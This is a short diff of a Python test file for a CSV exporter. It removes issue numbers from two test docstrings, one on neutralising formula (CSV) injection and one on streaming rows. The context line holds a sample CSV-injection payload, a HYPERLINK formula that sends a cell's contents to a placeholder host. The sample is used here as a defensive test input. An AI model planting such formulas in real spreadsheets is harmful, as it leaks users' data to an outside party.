@@ -65,7 +65,7 @@ HOSTILE_LOCATION = '=HYPERLINK("http://x.example/?d="&A2,"Leeds (HMP)")'
 
 
 def test_a_formula_in_a_cell_is_neutralised_with_a_quote_and_quoting_is_unchanged():
-    """Issue 10 §6 (OWASP CSV injection): the cell starts with ' so Excel shows the text, not a link."""
+    """OWASP CSV injection: the cell starts with ' so Excel shows the text, not a link."""
     message = the_originals_example()
     message.location_description = HOSTILE_LOCATION
     row = to_csv([message]).split("\n")[1]
@@ -94,7 +94,7 @@ def test_ordinary_values_and_a_formula_character_later_in_the_cell_are_untouched
 
 
 def test_csv_chunks_take_the_records_one_at_a_time():
-    """Issue 13 §4: the CSV is written as records arrive, never after collecting them all."""
+    """The CSV is written as records arrive, never after collecting them all."""
     pulled = 0
 
     def records():
